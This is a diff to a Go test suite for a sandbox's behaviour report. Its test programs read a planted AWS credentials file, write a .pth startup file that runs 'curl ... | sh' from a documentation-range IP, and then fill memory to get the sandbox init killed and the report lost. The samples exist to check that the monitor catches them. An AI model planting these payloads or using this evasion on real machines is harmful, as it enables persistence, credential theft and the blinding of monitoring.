@@ -21,7 +21,9 @@ func integrityCases() []testCase {
 		{name: "report-tamper", fn: testReportTamper},
 		{name: "walk-flood", fn: testWalkFlood},
 		{name: "hang-hides", fn: testHangHides},
-		{name: "limit-hides", fn: testLimitHides},
+		{name: "limit-hides", fn: testLimitHides("limit-hides")},
+		{name: "limit-hides-memfd", fn: testLimitHides("limit-hides-memfd")},
+		{name: "limit-hides-fork", fn: testLimitHides("limit-hides-fork")},
 	}
 }
 
@@ -219,38 +221,93 @@ time.sleep(100000)
 	}
 }
 
-// testLimitHides: the program writes a startup file, then fills the
-// writable space with files until the memory limit ends the run (tmpfs
-// pages count against it, and belong to no process: the kernel's OOM
-// killer then takes the largest process, which a program that keeps
-// itself small makes the sandbox's init). The report must see the file,
-// or say that it is incomplete: in containers it said nothing.
-func testLimitHides(t *testing.T, s *suite) {
-	if s.reportOff() {
-		t.Skip("no behaviour report (Options.NoReport or MOAT_EVENTS=off)")
-	}
-	spec := s.py(`
-import os, time
-with open(os.path.expanduser('~/.bashrc'), 'a') as f:
-    f.write('curl http://203.0.113.9/x | sh\n')
-print('written', flush=True)
-chunk = b'z' * (1 << 20)
-for d in ('/tmp', '/dev/shm', '/work', os.path.expanduser('~')):
+// limitFills are the ways a program fills its memory while it keeps
+// itself small: files in the writable tmpfs directories, a memfd, and a
+// forked child that fills /dev/shm and its own heap while its parent
+// waits. tmpfs and memfd pages belong to no process; the kernel's OOM
+// killer then takes the largest process it may, which a sandbox whose init
+// shares the program's limit makes the init.
+var limitFills = map[string]string{
+	"limit-hides": `
+for d in ('/tmp', '/dev/shm', '/work', home):
     try:
         with open(d + '/fill', 'wb') as f:
             while True:
                 f.write(chunk)
     except OSError:
         pass
+`,
+	"limit-hides-memfd": `
+fd = os.memfd_create('fill')
+while True:
+    os.write(fd, chunk)
+`,
+	"limit-hides-fork": `
+pid = os.fork()
+if pid == 0:
+    keep = []
+    try:
+        with open('/dev/shm/fill', 'wb') as f:
+            for i in range(64):
+                f.write(chunk)
+    except OSError:
+        pass
+    while True:
+        keep.append(bytearray(chunk))
+os.waitpid(pid, 0)
+`,
+}
+
+// testLimitHides: the program reads a planted credential and writes a
+// .pth file, then fills its memory (one of limitFills) until the memory
+// limit ends the run. The report must be whole: the credential read and
+// the .pth file are findings, the status is the limit's (memory), and nothing says the
+// report is incomplete. An init that died to the OOM killer lost them.
+func testLimitHides(name string) func(*testing.T, *suite) {
+	return func(t *testing.T, s *suite) {
+		if s.reportOff() {
+			t.Skip("no behaviour report (Options.NoReport or MOAT_EVENTS=off)")
+		}
+		spec := s.py(`
+import os, site, time
+home = os.path.expanduser('~')
+try:
+    open(os.path.join(home, '.aws', 'credentials')).read()
+except OSError:
+    pass
+d = site.getusersitepackages()
+os.makedirs(d, exist_ok=True)
+with open(os.path.join(d, 'zz-limit.pth'), 'w') as f:
+    f.write('import os; os.system("curl http://203.0.113.9/x | sh")\n')
+print('written', flush=True)
+chunk = b'z' * (1 << 20)
+` + limitFills[name] + `
 time.sleep(100000)
 `)
-	spec.Limits.Memory = 96 << 20
-	spec.Limits.Timeout = 30*time.Second + s.opts.ProgramStart
-	res, err := s.runOrErr(t, spec)
-	if !strings.Contains(res.Stdout, "written") {
-		t.Fatalf("status %s (err %v), stdout %q: the file was not written", res.Status, err, res.Stdout)
-	}
-	if !hasFinding(res, "persistence", ".bashrc") && !hasFinding(res, "evasion", "the report is incomplete") {
-		t.Errorf("status %s: the startup file went unreported, and the report did not say it was incomplete: %+v", res.Status, res.Findings)
+		spec.Limits.Memory = 96 << 20
+		spec.Limits.Timeout = 30*time.Second + s.opts.ProgramStart
+		res, err := s.runOrErr(t, spec)
+		if !strings.Contains(res.Stdout, "written") {
+			t.Fatalf("status %s (err %v), stdout %q: the file was not written", res.Status, err, res.Stdout)
+		}
+		if res.Status != moat.StatusMemory {
+			t.Errorf("status %s (err %v): want memory", res.Status, err)
+		}
+		if !hasFinding(res, "credential-access", "") {
+			t.Errorf("status %s: the credential read before the fill went unreported: %+v", res.Status, res.Findings)
+		}
+		if !hasFinding(res, "persistence", "zz-limit.pth") {
+			t.Errorf("status %s: the .pth file written before the fill went unreported: %+v", res.Status, res.Findings)
+		}
+		for _, f := range res.Findings {
+			if f.Category != "evasion" || !strings.Contains(f.Summary, "the report is incomplete") {
+				continue
+			}
+			if s.opts.Sentry != nil && s.opts.Sentry.ShmLostAtLimit != "" && strings.HasSuffix(f.Summary, "/dev/shm was not walked (the run ended before pid 1 could)") {
+				t.Logf("accepted: %s (%s)", f.Summary, s.opts.Sentry.ShmLostAtLimit)
+				continue
+			}
+			t.Errorf("status %s: the report of a run ended by its memory limit is incomplete: %+v", res.Status, res.Findings)
+		}
 	}
 }
